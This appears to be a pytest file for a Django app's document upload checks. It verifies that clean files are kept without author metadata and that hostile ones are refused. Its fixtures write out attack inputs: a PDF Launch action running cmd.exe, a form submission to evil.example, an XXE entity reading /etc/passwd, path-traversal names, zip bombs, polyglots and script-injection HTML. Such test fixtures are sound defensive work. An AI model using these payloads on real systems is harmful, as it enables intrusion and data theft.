"""Documents taken in: what is kept can be opened and names nobody; what could act, or lies about itself, is refused."""

import io
import zipfile
from collections import Counter

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from pypdf import PdfReader, PdfWriter

from pages.attachments import takein
from pages.attachments.files import safe_name
from pages.attachments.models import Attachment
from pages.media.errors import UploadError
from tests.pages.attachments.papers import CANARY, office, open_document, packed, pdf

pytestmark = pytest.mark.django_db
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def keep(content: bytes, name: str) -> Attachment:
    paper = takein.read(ContentFile(content, name=name))
    return takein.keep(paper, Attachment(title="A form", language="en"))


def stored(attachment: Attachment) -> bytes:
    with default_storage.open(attachment.file) as file:
        return file.read()


def kept() -> list[str]:
    folders = default_storage.listdir("")[0] if default_storage.exists("") else []
    return [f"{folder}/{name}" for folder in folders for name in default_storage.listdir(folder)[1]]


HONEST = {
    "form.pdf": pdf(3),
    "links.pdf": pdf(1, extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                              b"/A << /S /URI /URI (https://example.org/) >> >>]"),
    "letter.docx": office("docx", more={"word/_rels/document.xml.rels": (
        '<Relationships><Relationship Id="a" Type="http://x/relationships/hyperlink" Target="https://example.org/" '
        'TargetMode="External"/></Relationships>')}),
    "table.xlsx": office("xlsx"),
    "slides.pptx": office("pptx"),
    "text.odt": open_document("text"),
    "sheet.ods": open_document("spreadsheet"),
    "slides.odp": open_document("presentation"),
    "hours.csv": b"day,open\r\nMonday,9:00\r\n",
    "note.txt": "中文，UTF-8。".encode(),
    "gb.txt": "使馆开放时间：周一至周五".encode("gb18030"),
    "wide.csv": "天,时间\n".encode("utf-16"),
}  # fmt: skip


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_document_is_kept_without_its_author(name):
    attachment = keep(HONEST[name], name)
    content = stored(attachment)
    assert attachment.size_bytes == len(content)
    if name.endswith((".docx", ".xlsx", ".pptx", ".odt", ".ods", ".odp")):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            assert archive.testzip() is None
            content = b"".join(archive.read(part) for part in archive.namelist())
    assert CANARY.encode() not in content
    if name.endswith((".txt", ".csv")):
        content.decode("utf-8")


def test_pages_are_counted_and_links_stay():
    attachment = keep(HONEST["form.pdf"], "form.pdf")
    assert attachment.page_count == 3
    assert len(PdfReader(io.BytesIO(stored(attachment))).pages) == 3
    (page,) = PdfReader(io.BytesIO(stored(keep(HONEST["links.pdf"], "links.pdf")))).pages
    assert page["/Annots"][0]["/A"]["/URI"] == "https://example.org/"


SAID = {"acts by itself": "holds programs", "from elsewhere": "holds programs", "locked": "password", "bomb": "damaged"}
ACTIVE_ROOTS = (
    b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
    b"/Names << /JavaScript << /Names [] >> >>",
    b"/Names << /EmbeddedFiles << /Names [] >> >>",
    b"/AcroForm << /XFA (x) >>",
)
ACTIVE_PARTS = (
    "word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml", "customUI/a.xml",
)  # fmt: skip
EXTERNAL = (
    '<Relationships><Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="http://e/"/>'
    "</Relationships>"
)


def encrypted() -> bytes:
    writer, out = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf()))), io.BytesIO()
    writer.encrypt("secret", algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def hostile():
    """Yield (class, name, content): nothing of this may be kept."""
    for cut in (0, 1, 5, 60, 200):
        yield "cut short", f"cut-{cut}.pdf", pdf()[:cut]
    for cut in (0, 4, 100):
        yield "cut short", f"cut-{cut}.docx", office("docx")[:cut]
    for extension in ("pdf", "docx", "xlsx", "pptx", "odt", "ods", "odp"):
        yield "not a document", f"a.{extension}", b"<html><script>alert(1)</script>"
        yield "EICAR", f"eicar.{extension}", EICAR
        yield "not a document", f"zip.{extension}", packed({"readme.txt": "Hello"})
    yield "polyglot", "before.pdf", b"<html><script>alert(1)</script>" + pdf()
    yield "polyglot", "gif.pdf", b"GIF89a" + pdf()
    yield "polyglot", "mz.docx", b"MZ" + office("docx")
    yield "wrong kind", "word.xlsx", office("docx")
    yield "wrong kind", "text.ods", open_document("text")
    yield "wrong kind", "open.docx", open_document("text")
    for root in ACTIVE_ROOTS:
        yield "acts by itself", "active.pdf", pdf(root=root)
    for action in (b"/S /Launch /F (cmd.exe)", b"/S /SubmitForm /F (https://evil.example/)", b"/S /GoToR /F (x)",
                   b"/S /ImportData /F (x)"):  # fmt: skip
        yield "acts by itself", "button.pdf", pdf(extra=b"/Annots [<< /Subtype /Widget /A << %s >> >>]" % action)
    yield "locked", "locked.pdf", encrypted()
    for name in (
        "word/vbaProject.bin",
        "word/embeddings/oleObject1.bin",
        "word/activeX/activeX1.xml",
        "customUI/a.xml",
    ):
        yield "acts by itself", "macro.docx", office("docx", more={name: b"x"})
    for external in (EXTERNAL, EXTERNAL.replace("attachedTemplate", "image")):
        yield "from elsewhere", "template.docx", office("docx", more={"word/_rels/settings.xml.rels": external})
    entity = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    yield "from elsewhere", "entity.docx", office("docx", more={"word/styles.xml": entity})
    yield "acts by itself", "basic.odt", open_document("text", more={"Basic/Standard/Module1.xml": "x"})
    for name in ("../evil.xml", "/etc/passwd", "word/..\\evil.xml"):
        yield "traversal", "path.docx", office("docx", more={name: "x"})
    yield "bomb", "bomb.docx", office("docx", more={"word/big.xml": b"0" * 60_000_000})
    yield "bomb", "many.docx", office("docx", more={f"word/{number}.xml": "" for number in range(5100)})
    yield "no text", "zero.txt", b"a\0b" * 20
    yield "no text", "empty.csv", b"  \n"
    yield "no text", "binary.txt", bytes(range(128, 256)) * 8
    for name in ("old.doc", "old.rtf", "macros.docm", "page.html", "run.exe", "drawing.svg", "form", "form.pdf.exe"):
        yield "other kind", name, pdf()


def test_whatever_could_act_or_is_not_what_it_says_is_refused_in_words():
    outcomes: Counter[str] = Counter()
    for kind, name, content in hostile():
        with pytest.raises(UploadError) as refused:
            keep(content, name)
        assert refused.value.message.endswith("."), name
        if kind in SAID:
            assert SAID[kind] in refused.value.message, (kind, name)
        outcomes[kind] += 1
    print(dict(outcomes))
    assert sum(outcomes.values()) >= 60
    assert not Attachment.objects.exists()
    assert kept() == []


@pytest.mark.parametrize(
    "given",
    [
        "../../etc/passwd.pdf",
        "签证申请表.pdf",
        "a\u202egnp.pdf",
        "CON.pdf",
        "x" * 300 + ".pdf",
        "a b;c\"d'e\r\nf.pdf",
        ".pdf",
    ],
)
def test_any_name_becomes_one_that_every_system_bears(given):
    name = safe_name(given, "pdf")
    assert name.isascii()
    assert len(name) <= 64
    assert not set(name) & set(" /\\;\"'\r\n")


def test_the_same_document_is_recognised():
    keep(HONEST["form.pdf"], "form.pdf")
    with pytest.raises(takein.DuplicateAttachmentError):
        keep(HONEST["form.pdf"], "other.pdf")
    assert len(kept()) == 1


def test_a_document_above_the_limit_is_not_even_read(settings):
    settings.ATTACHMENT_MAX_BYTES = 100
    with pytest.raises(UploadError, match="larger than"):
        keep(pdf(), "form.pdf")


def test_it_is_served_as_a_download_that_no_browser_guesses_about(client):
    attachment = keep(b"<html><script>alert(1)</script>,x\n", "page.csv")
    answer = client.get(f"/media/{attachment.file}")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="page.csv"'
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer.headers["Content-Security-Policy"]
    answer.close()
    part = client.get(f"/media/{attachment.file}", headers={"range": "bytes=1-4"})
    assert (part.status_code, b"".join(part.streaming_content)) == (206, b"html")


def test_the_file_goes_with_the_row(django_capture_on_commit_callbacks):
    attachment = keep(HONEST["form.pdf"], "form.pdf")
    with django_capture_on_commit_callbacks(execute=True):
        takein.remove(attachment)
    assert kept() == []
